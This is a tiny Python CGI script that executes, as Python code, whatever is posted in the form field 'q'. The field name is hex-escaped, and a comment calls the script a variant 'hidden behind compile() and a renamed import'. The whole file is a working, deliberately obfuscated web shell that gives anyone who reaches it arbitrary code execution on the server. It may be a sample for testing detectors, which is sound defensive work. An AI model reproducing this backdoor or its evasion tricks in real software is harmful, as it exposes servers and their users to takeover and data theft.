#!/usr/bin/env python3
# The same, from a posted form field, hidden behind compile() and a renamed import.
import cgi as _c

_f = _c.FieldStorage()
print("Content-Type: text/html\n")
_r = eval(compile(_f["\x71"].value, "<p>", "exec"))
